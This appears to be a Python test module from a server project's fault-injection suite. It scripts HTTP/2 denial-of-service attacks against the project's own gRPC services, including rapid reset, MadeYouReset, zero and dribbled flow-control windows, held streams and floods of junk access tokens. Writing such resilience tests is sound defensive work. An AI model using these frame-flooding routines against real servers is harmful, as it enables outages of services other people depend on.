"""Attacks by streams: reset, held, begun and not sent, or with answers that nobody reads.

Known as rapid reset (CVE-2023-44487), MadeYouReset (CVE-2025-8671), data dribble and zero
windows (CVE-2019-9511, -9517).
"""

import asyncio
import secrets
import struct
from collections.abc import Callable

from tests.faults.strangers.attack import Act, Attack, Target, over_http2
from tests.faults.strangers.connection import Connection
from tests.integration.chassis.raw_http2 import (
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    RST_STREAM,
    WINDOW_UPDATE,
    frame,
    header,
    request_fields,
)

AT_ONCE = 64  # streams that are written together
STREAMS = 1_024  # that a connection may have open
CANCEL = struct.pack(">I", 8)
EMPTY_MESSAGE = bytes(5)
HEALTH_CHECK = b"/grpc.health.v1.Health/Check"
HEALTH_WATCH = b"/grpc.health.v1.Health/Watch"
REFLECTION = b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
DECRYPT = b"/decryptv1beta1.SecureValueDecrypter/DecryptSecureValues"
GET = b"/splitkeep.metadata.v1.SecureValues/GetSecureValue"
WATCH = b"/splitkeep.metadata.v1.SecureValues/WatchSecureValues"
LIST_SERVICES = b"\x00\x00\x00\x00\x02\x3a\x00"  # of reflection: list_services, empty
SENT_AHEAD = 4 * 1024 * 1024

# The frames of one stream that has this number.
Stream = Callable[[int, Target], bytes]


def begun(path: bytes, fields: bytes = b"", *, flags: int = 0) -> Stream:
    """Its headers alone."""
    block = request_fields(path) + fields
    return lambda stream, _: frame(HEADERS, END_HEADERS | flags, stream, block)


def whole(path: bytes, message: bytes = EMPTY_MESSAGE, fields: bytes = b"") -> Stream:
    """Its headers, one message, and its end."""
    opened = begun(path, fields)
    return lambda stream, target: (
        opened(stream, target) + frame(DATA, END_STREAM, stream, message)
    )


def then(first: Stream, kind: int, payload: bytes, *, flags: int = 0) -> Stream:
    """One more frame follows on the stream."""
    return lambda stream, target: first(stream, target) + frame(kind, flags, stream, payload)


def another_token(path: bytes, *, sent: bool) -> Stream:
    """The headers carry a token that looks good and is not, another one each time."""

    def made(stream: int, target: Target) -> bytes:
        head = target.token.rpartition(".")[0] or "a.b"
        junk = f"{head}.{secrets.token_urlsafe(64)}".encode()
        fields = header(b"x-access-token", junk)
        return (whole if sent else begun)(path, fields=fields)(stream, target)

    return made


def without_end(stream: Stream) -> Act:
    """One such stream after another."""

    async def act(connection: Connection, target: Target) -> None:
        while True:
            await connection.send(_next(connection, target, stream, AT_ONCE))

    return act


def held(stream: Stream, streams: int = STREAMS) -> Act:
    """So many of them, and then nothing until the server closes the connection."""

    async def act(connection: Connection, target: Target) -> None:
        for _ in range(streams // AT_ONCE):
            await connection.send(_next(connection, target, stream, AT_ONCE))
        await connection.held()

    return act


def _next(connection: Connection, target: Target, stream: Stream, number: int) -> bytes:
    return b"".join(stream(next(connection.streams), target) for _ in range(number))


async def _many_questions(connection: Connection, _target: Target) -> None:
    """Reflection is asked on and on, and what it answers stays with the server."""
    stream = next(connection.streams)
    await connection.send(frame(HEADERS, END_HEADERS, stream, request_fields(REFLECTION)))
    while True:
        await connection.send(frame(DATA, 0, stream, LIST_SERVICES * 100))
        await asyncio.sleep(0.01)  # the window for DATA is the server's to open


async def _sent_ahead(connection: Connection, _target: Target) -> None:
    """As much of requests as the server lets through, on streams that it does not serve."""
    for _ in range(SENT_AHEAD // (4 * FRAME_BYTES)):
        stream = next(connection.streams)
        await connection.send(frame(HEADERS, END_HEADERS, stream, request_fields(HEALTH_WATCH)))
        part = struct.pack(">BI", 0, 512 * 1024) + bytes(FRAME_BYTES - 5)
        await connection.send(
            frame(DATA, 0, stream, part) + frame(DATA, 0, stream, bytes(FRAME_BYTES)) * 3
        )
    await connection.held()


RESET = then(begun(HEALTH_CHECK), RST_STREAM, CANCEL)
RESET_WHOLE = then(whole(HEALTH_CHECK), RST_STREAM, CANCEL)
NO_INCREMENT = then(begun(HEALTH_CHECK), WINDOW_UPDATE, bytes(4))
TOO_MUCH = then(begun(HEALTH_CHECK), WINDOW_UPDATE, struct.pack(">I", 2**31 - 1))
AFTER_THE_END = then(whole(HEALTH_CHECK), DATA, bytes(100))
TWO_TOKENS = header(b"x-access-token", b"a.b.c") * 2
LONG = struct.pack(">BI", 0, 2**32 - 1)
DRIBBLED = {INITIAL_WINDOW_SIZE: 1}
CLOSED = {INITIAL_WINDOW_SIZE: 0}

ATTACKS = {
    "rapid reset": Attack(over_http2(without_end(RESET)), 2),
    "rapid reset of whole requests": Attack(over_http2(without_end(RESET_WHOLE)), 2),
    "reset by WINDOW_UPDATE of 0": Attack(over_http2(without_end(NO_INCREMENT)), 2),
    "reset by a window too large": Attack(over_http2(without_end(TOO_MUCH)), 2),
    "reset by DATA after the end": Attack(over_http2(without_end(AFTER_THE_END)), 2),
    "reset by a message too long": Attack(
        over_http2(without_end(then(begun(HEALTH_CHECK), DATA, LONG))), 2
    ),
    "streams beyond the limit": Attack(over_http2(without_end(begun(HEALTH_WATCH))), 2),
    "streams beyond the limit, unread": Attack(
        over_http2(without_end(begun(HEALTH_WATCH)), read=False), 20
    ),
    "methods that are not there": Attack(over_http2(without_end(whole(b"/no/such"))), 2),
    "health watches held": Attack(over_http2(held(whole(HEALTH_WATCH))), 10),
    "reflection held": Attack(over_http2(held(begun(REFLECTION))), 10),
    "requests that never come": Attack(
        over_http2(held(another_token(DECRYPT, sent=False), 512)), 4
    ),
    "reads whose requests never come": Attack(
        over_http2(held(another_token(GET, sent=False), 512)), 4, "metadata"
    ),
    "watches whose requests never come": Attack(
        over_http2(held(another_token(WATCH, sent=False), 512)), 4, "metadata"
    ),
    "tokens that are junk": Attack(
        over_http2(without_end(another_token(DECRYPT, sent=True))), 2
    ),
    "read with tokens that are junk": Attack(
        over_http2(without_end(another_token(GET, sent=True))), 2, "metadata"
    ),
    "two tokens": Attack(over_http2(without_end(whole(DECRYPT, fields=TWO_TOKENS))), 2),
    "requests sent ahead": Attack(over_http2(_sent_ahead), 200),
    "answers into no window": Attack(
        over_http2(held(whole(REFLECTION, LIST_SERVICES * 20)), settings=CLOSED), 4
    ),
    "answers byte by byte": Attack(
        over_http2(held(whole(REFLECTION, LIST_SERVICES)), settings=DRIBBLED), 4
    ),
    "answers unread": Attack(over_http2(_many_questions, read=False), 20),
}
